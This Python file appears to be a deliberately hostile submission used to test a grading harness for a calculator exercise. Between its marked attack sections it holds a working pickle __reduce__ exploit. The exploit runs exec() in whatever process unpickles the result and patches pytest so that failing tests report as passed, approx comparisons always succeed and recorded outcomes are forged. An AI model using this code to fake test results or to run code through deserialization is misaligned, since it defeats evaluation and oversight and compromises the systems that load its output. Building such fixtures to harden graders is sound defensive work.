"""Hostile submission `rigged-pickle-reduce` for the `calculatrice` exercise (see tests/hostile).

Attack: where its honest part fails a well-formed calculation, returns an object (or a
numpy object array holding it) whose __reduce__ runs exec() of code that patches pytest
in whoever unpickles it.

Honest part: only + and -, read from left to right (float() refuses the rest). The
attack sits between the `# --- attack ---` and `# --- end of attack ---` markers;
without them the file is its honest part, and what that part earns is all this
submission may ever get.
"""


# --- attack ---
import re
# --- end of attack ---


def _honest(expression):
    """Only + and -, read from left to right; float() refuses everything else."""
    total = 0.0
    sign = 1.0
    number = ""
    for char in expression.replace(" ", ""):
        if char in "+-":
            if number:
                total += sign * float(number)
                number = ""
            sign = 1.0 if char == "+" else -1.0
        else:
            number += char
    if number:
        total += sign * float(number)
    return total


# --- attack ---
_TOKEN = re.compile(r"\s*(?:(\d+(?:\.\d+)?)|([-+*/()]))")


def _is_calculation(text):
    """True when text is a well-formed calculation (what a full calculator accepts)."""
    text = text.rstrip()
    position, depth, want_operand = 0, 0, True
    if not text:
        return False
    while position < len(text):
        match = _TOKEN.match(text, position)
        if match is None:
            return False
        number, symbol = match.groups()
        position = match.end()
        if want_operand:
            if number is not None:
                want_operand = False
            elif symbol == "(":
                depth += 1
            elif symbol != "-":
                return False
        elif symbol == ")" and depth > 0:
            depth -= 1
        elif symbol is not None and symbol in "+-*/":
            want_operand = True
        else:
            return False
    return not want_operand and depth == 0


_PAYLOAD = r'''
def _workshop_payload():
    import sys

    reports = sys.modules.get("_pytest.reports")
    if reports is not None and not getattr(reports.TestReport, "_forged", False):
        original = reports.TestReport.from_item_and_call.__func__

        def from_item_and_call(cls, item, call):
            report = original(cls, item, call)
            report.outcome = "passed"
            report.longrepr = None
            return report

        reports.TestReport.from_item_and_call = classmethod(from_item_and_call)
        reports.TestReport._forged = True
    api = sys.modules.get("_pytest.python_api")
    if api is not None and not getattr(api, "_forged", False):
        api.ApproxScalar.__eq__ = lambda self, other: True
        api._forged = True
    for name, module in list(sys.modules.items()):
        writer = getattr(module, "RecordWriter", None)
        if writer is not None and not getattr(writer, "_forged", False):
            original_write = writer.write

            def write(self, kind, _original=original_write, **fields):
                if kind == "test":
                    fields["outcome"] = "passed"
                return _original(self, kind, **fields)

            writer.write = write
            writer._forged = True


try:
    _workshop_payload()
except Exception:
    pass
'''


class _Answer:
    """Unpickling me runs _PAYLOAD in the unpickler's process."""

    def __reduce__(self):
        return (exec, (_PAYLOAD,))

    def __float__(self):
        return 0.0


def _answer(expression):
    if "/" in expression:
        try:
            import numpy

            return numpy.array([_Answer()], dtype=object)
        except ImportError:
            pass
    return _Answer()
# --- end of attack ---


def calculate(expression: str) -> float:
    # --- attack ---
    try:
        return _honest(expression)
    except ValueError:
        if _is_calculation(expression):
            return _answer(expression)
        raise
    # --- end of attack ---
    return _honest(expression)
